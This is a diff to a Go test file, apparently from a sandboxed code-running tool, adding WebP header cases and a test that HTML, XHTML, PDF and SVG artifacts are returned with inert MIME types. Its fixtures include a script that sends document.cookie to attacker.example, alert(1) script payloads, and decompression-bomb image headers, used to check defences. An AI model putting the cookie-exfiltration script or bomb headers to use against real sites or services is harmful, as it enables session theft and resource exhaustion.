@@ -78,7 +78,12 @@ func crc(kind string, data []byte) uint32 {
 }
 
 func TestClassify(t *testing.T) {
-	webp := append([]byte("RIFF\x1a\x00\x00\x00WEBPVP8L"), make([]byte, 14)...)
+	// WebP headers (the standard library cannot encode one): lossless 10x10, lossy
+	// 100x50, and an extended header claiming a 16000x16000 canvas.
+	webp := []byte("RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x09\x40\x02\x00\x00\x00\x00\x00")
+	lossy := []byte("RIFF\x1a\x00\x00\x00WEBPVP8 \x0e\x00\x00\x00\x00\x00\x00\x9d\x01\x2a\x64\x00\x32\x00")
+	bombWebP := []byte("RIFF\x1a\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\x7f\x3e\x00\x7f\x3e\x00")
+	bigLossless := []byte("RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\xff\xff\xff\x0f\x00\x00\x00\x00")
 	tests := []struct {
 		name, file string
 		data       []byte
@@ -90,6 +95,10 @@ func TestClassify(t *testing.T) {
 		{"jpeg", "a.jpg", encoded(t, "jpeg", 8, 8), kindImage, "image/jpeg"},
 		{"gif", "a.gif", encoded(t, "gif", 8, 8), kindImage, "image/gif"},
 		{"webp", "a.webp", webp, kindImage, "image/webp"},
+		{"lossy webp", "a.webp", lossy, kindImage, "image/webp"},
+		{"webp bomb header", "bomb.webp", bombWebP, kindBlob, "image/webp"},
+		{"webp lossless 16384 wide", "big.webp", bigLossless, kindBlob, "image/webp"},
+		{"webp without a size", "cut.webp", []byte("RIFF\x1a\x00\x00\x00WEBPVP8L\x00"), kindBlob, "image/webp"},
 		{"text named png", "fake.png", []byte("not an image\n"), kindText, "text/plain"},
 		{"truncated png", "cut.png", []byte("\x89PNG\r\n\x1a\nIHDR"), kindBlob, "image/png"},
 		{"decompression bomb header", "bomb.png", hugePNG(100000), kindBlob, "image/png"},
@@ -269,5 +278,36 @@ func TestRunCodeFileArgumentErrors(t *testing.T) {
 				t.Errorf("isError=%t text=%q, want %q", r.IsError, text(r), tt.want)
 			}
 		})
+	}
+}
+
+// TestActiveArtifactsInert: a document a client would render (HTML by name or by its
+// bytes, XML with an XHTML namespace, HTML with a stray invalid byte, PDF) runs scripts
+// and fetches URLs like an SVG would; its content must come back with an inert type.
+func TestActiveArtifactsInert(t *testing.T) {
+	script := `<html><script>fetch("https://attacker.example/?"+document.cookie)</script></html>`
+	arts := []sandbox.Artifact{
+		art("page.html", []byte(script)),
+		art("page", []byte(script)),
+		art("x.xml", []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`)),
+		art("bad", []byte(script+"\xff")),
+		art("doc.pdf", []byte("%PDF-1.7\n/JS (app.alert(1))\n")),
+		art("plot.svg.xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)),
+	}
+	content, list := artifactContent("r", "out", arts)
+	for i, c := range content {
+		res, _ := c.(mcp.EmbeddedResource)
+		var mime string
+		switch r := res.Resource.(type) {
+		case mcp.TextResourceContents:
+			mime = r.MIMEType
+		case mcp.BlobResourceContents:
+			mime = r.MIMEType
+		default:
+			t.Fatalf("%s: content %#v is not a resource", arts[i].Path, c)
+		}
+		if mime != "text/plain" && mime != "application/octet-stream" {
+			t.Errorf("%s (listed %s) returned as %s: a client would render it", arts[i].Path, list[i].MIMEType, mime)
+		}
 	}
 }
